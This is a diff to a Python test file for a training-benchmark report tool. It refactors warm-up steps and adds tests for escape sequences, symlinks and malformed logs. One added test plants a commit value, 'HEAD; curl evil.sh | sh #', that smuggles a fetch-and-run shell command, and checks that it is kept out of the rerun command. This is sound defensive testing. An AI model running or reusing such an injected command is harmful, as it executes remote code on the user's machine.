@@ -22,7 +22,7 @@ from ladder.commands import gather, page, report
 from ladder.commands.results import read_climb
 from ladder.commands.tables import cells, known, titles
 from ladder.files import git
-from ladder.log import pairs_line, step_line
+from ladder.log import pairs_line, step_line, warmup_steps
 
 LOGS = ROOT / "logs"
 HERE = "2026-11-21-amd-epyc-2-threads"
@@ -30,7 +30,7 @@ CLIMB, ABLATION, NEGATIVE, EXAMPLES, PROFILE, KEPT_SCRIPT = (
     LOGS / f"{HERE}-{name}"
     for name in ("climb", "ablate", "beyond-negative", "examples", "profile", "keep-memory")
 )
-STEPS, WARMUP = 9, 3
+STEPS = 9
 NEEDS_HISTORY = pytest.mark.skipif(
     git("cat-file", "-e", "d2d72edfc0b7^{commit}").returncode != 0,
     reason="this checkout lacks the commit of the published climb",
@@ -47,9 +47,10 @@ def fabricate(folder, times, *, kind="climb", repeats=3, logged=None, failures=(
     folder.mkdir(parents=True)
     run = {"commit": "unknown", "torch": "2.13.0", "device": "Test GPU", "model": "gpt2"} | run
     run = {"data": "topics", "B": 4, "T": 256, "steps": STEPS, "seed": 1} | run
+    warmup, losses = warmup_steps(run["steps"]), [11 - k / 4 for k in range(run["steps"])]
     facts = {
         "kind": kind, "started": "2026-11-21 10:00", "repeats": repeats, "failures": dict(failures),
-        "commit": run["commit"],
+        "commit": "unknown",
         "flags": [f"--steps={STEPS}"], "data": "/home/someone/texts", "peak_flops": 4e12,
         "peak_dtype": "bfloat16", "scripts": [f"{stem}.py" for stem in times],
         "system": "Linux", "cores": 2, "clocks": {}, "versions": {"torch": "2.13.0"},
@@ -62,12 +63,14 @@ def fabricate(folder, times, *, kind="climb", repeats=3, logged=None, failures=(
         lines = [pairs_line("run", {"script": f"{stem}.py", **run})]
         for step in range(run["steps"]):
             dt = ms / 1e3 * (1 + repeat / 1e3) * (20 if step == 0 else 1 + step % 3 / 500)
-            lines.append(step_line(step, STEPS, loss=11 - step / 4, dt=dt, tok_per_s=1024 / dt))
+            lines.append(step_line(step, STEPS, loss=losses[step], dt=dt, tok_per_s=1024 / dt))
         lines.append(pairs_line("effective", {"matmul": "highest(setting)", "compiled": "no"}))
         lines.append(pairs_line("mfu", {"flops_per_token": 1000000000, "peak_flops": "unknown"}))
         result = {
-            "warmup_steps": WARMUP, "measured_steps": STEPS - WARMUP, "peak_bytes": 3_000_000_000,
-            "first_step_ms": 20 * ms, "first_loss": 11.0, "final_loss": 9.0, "tok_per_s": 1024 / ms,
+            "status": "ok", "peak_bytes": 3_000_000_000,
+            "warmup_steps": warmup, "measured_steps": run["steps"] - warmup,
+            "first_step_ms": 20 * ms, "tok_per_s": 1024 / ms,
+            "first_loss": losses[0], "final_loss": losses[-1],
         }  # fmt: skip
         text = "\n".join([*lines, f"RESULT {json.dumps(result)}\n"])
         (folder / f"{stem}.r{repeat + 1}.log").write_text(text, encoding="utf-8")
@@ -217,6 +220,8 @@ def test_the_foot_says_how_to_measure_it_again(tmp_path):
         "ladder climb 0 own/my_idea.py --repeats 3 --steps=9 --data 'my texts'",
         "ladder peers --repeats 3 --steps=9 --data topics",
     ]
+    hostile = fabricate(tmp_path / "hostile", {"baseline": 2}, commit="HEAD; curl evil.sh | sh #")
+    assert "curl" not in gathered(hostile)["foot"]["Again"]
     assert feet[0]["Clocks"] == "before: 2596 MHz, 2596 MHz, after: 2596 MHz, 2596 MHz"
     assert feet[0]["Steps"] == "3 for warm-up, left out; 6 measured in each run"
     assert feet[3]["Not finished"] == "4 of 6 runs are in" and not feet[0]["Not finished"]
@@ -267,6 +272,9 @@ def test_a_folder_without_a_climb(make, tmp_path, monkeypatch):
     odd("warm", old='"warmup_steps": 3', new='"warmup_steps": 9')
     odd("zero", old=r"dt +[\d.]+ ms", new="dt 0 ms")
     odd("tiny", old=r"dt +[\d.]+ ms", new="dt 1e-310 ms")
+    odd("loss", old=r"loss [\d.]+", new="loss nan")  # a run that has one ends there
+    odd("large", old=r"loss [\d.]+", new="loss 1e308")
+    odd("step", old="step    4/", new="step " + "4" * 400 + "/")
     odd("nan", old=r"dt +[\d.]+ ms", new="dt nan ms")
     fabricate(tmp_path / "empty", {"baseline": 2}, B=0)
     fabricate(tmp_path / "failed", {"baseline": None}, failures={"baseline.r1": "memory"})
@@ -278,18 +286,27 @@ def test_a_folder_without_a_climb(make, tmp_path, monkeypatch):
     assert fails(make(), "error no climb in logs/ or runs/: run")
 
 
-def test_scripts_that_cannot_be_read_and_losses_that_are_no_number(make, tmp_path):
+def test_scripts_that_cannot_be_read(make, tmp_path):
     folder = fabricate(tmp_path / "odd", dict.fromkeys(("latin", "folder", "deep", "fifo"), 9))
     (folder / "latin.py").write_bytes("x = 'é'".encode("latin-1"))
     (folder / "folder.py").mkdir()
     (folder / "deep.py").write_text("(" * 10_000)
     os.mkfifo(folder / "fifo.py")
-    log = folder / "latin.r1.log"
-    log.write_text(re.sub(r"loss [\d.]+", "loss nan", log.read_text()))
     rungs = make(folder)[1][0]["rungs"]
     assert ["cannot read" in rung["source"] for rung in rungs] == [True, False, True, False]
     assert ["is not here" in rung["source"] for rung in rungs] == [False, True, False, True]
-    assert [len(rung["curve"]) for rung in rungs] == [0, STEPS, STEPS, STEPS]
+    assert [len(rung["curve"]) for rung in rungs] == [STEPS] * 4
+
+
+def test_links_are_not_followed_and_no_control_character_is_printed(make, tmp_path):
+    folder = fabricate(tmp_path / "odd", {"baseline": 2}, device="\x1b[2J")
+    secret = tmp_path / "secret.py"
+    secret.write_text('"""My secret."""\n')
+    (folder / "baseline.py").symlink_to(secret)
+    _, (climb,), printed = make(folder)
+    assert "secret" not in str(climb["rungs"][0]["doc"])
+    assert "\x1b" not in printed and r"\x1b[2J" in printed
+    assert fails(make(tmp_path / "no\nsuch"), r"no\nsuch")
 
 
 def test_only_a_page_of_its_own_is_replaced_and_opened(make, tmp_path, monkeypatch):
